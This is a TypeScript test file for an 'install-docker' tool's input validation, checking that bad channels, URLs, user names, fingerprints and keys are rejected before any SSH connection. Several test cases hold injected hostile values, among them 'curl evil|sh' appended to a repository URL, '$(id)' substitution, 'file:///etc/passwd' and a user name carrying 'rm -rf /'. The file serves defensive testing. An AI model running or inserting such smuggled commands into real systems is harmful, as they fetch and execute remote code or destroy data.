// install-docker refuses a bad event before it connects: a channel, URL, user name or fingerprint a shell or
// apt would misread, a user listed twice, an unknown key (with the nearest known one). Nothing runs on the VM,
// and every problem is listed at once.
import { run } from "./support/docker-steps";

describe("install-docker: event validation (before any SSH)", () => {
  const invalid: [string, unknown, RegExp][] = [
    ["a bad channel", { channel: "snap" }, /event channel: expected one of "official", "distro", got "snap"/],
    [
      "repo_url with shell syntax",
      { repo_url: "https://download.docker.com/linux;curl evil|sh" },
      new RegExp(
        /event repo_url: "https:\/\/download\.docker\.com\/linux;curl evil\|sh" is not allowed; /.source +
          /expected an http\(s\) URL/.source,
      ),
    ],
    ["repo_url with command substitution", { repo_url: "https://$(id).example.com/linux" }, /event repo_url: /],
    ["repo_url with a quote", { repo_url: "https://mirror.example.com/li'nux" }, /event repo_url: /],
    ["repo_url not http(s)", { repo_url: "file:///etc/passwd" }, /event repo_url: /],
    [
      "a user name with shell syntax",
      { users: ["ubuntu; rm -rf /"] },
      /event users\[0\]: "ubuntu; rm -rf \/" is not allowed; expected a Unix user name/,
    ],
    ["an uppercase user name", { users: ["Admin"] }, /event users\[0\]: "Admin"/],
    ["an option as user name", { users: ["-oProxyCommand"] }, /event users\[0\]/],
    [
      "a short key ID as fingerprint",
      { repo_key_fingerprint: "0EBFCD88" },
      /event repo_key_fingerprint: "0EBFCD88" is not an OpenPGP key fingerprint/,
    ],
    [
      "no fingerprint at all",
      { repo_key_fingerprint: [] },
      /event repo_key_fingerprint: expected one OpenPGP key fingerprint .* got an empty list/,
    ],
    ["a user listed twice", { users: ["ubuntu", "ubuntu"] }, /event users\[1\]: "ubuntu" appears twice/],
    ["users not a list", { users: "ubuntu" }, /event users: expected a list/],
    ["a bad verify mode", { verify: "ping" }, /event verify: expected one of "hello-world", "daemon"/],
    ["compose not a boolean", { compose: "yes" }, /event compose: expected true or false, got "yes"/],
    [
      "an unknown key",
      { composer: true },
      new RegExp(
        /event composer: unknown key; did you mean "compose"\? allowed here: compose, channel, repo_url, /.source +
          /repo_key_fingerprint, users, verify, log_rotation, log_max_size, log_max_file, registry_mirrors, /.source +
          /daemon_config, update, cache_valid_sec, state, apt, ssh/.source,
      ),
    ],
    [
      "bad apt settings",
      { apt: { lock_attempts: 0 } },
      /event apt\.lock_attempts: expected a whole number from 1 to 50/,
    ],
    ["bad ssh settings", { ssh: { attempts: "3" } }, /event ssh\.attempts: expected a whole number/],
  ];

  it.each(invalid)("rejects %s with no connection made", async (_what, event, message) => {
    const { error, connects, remote } = await run(event, []);
    expect(error?.message).toMatch(/^install-docker: invalid input, nothing was done on the VM: /);
    expect(error?.message).toMatch(message);
    expect(connects).toBe(0);
    expect(remote.calls).toHaveLength(0);
  });

  it("lists every problem at once", async () => {
    const { error } = await run({ channel: "x", repo_url: "ftp://a", users: ["B"] }, []);
    expect(error?.message).toMatch(/event channel[\s\S]*event repo_url[\s\S]*event users\[0\]/);
  });
});
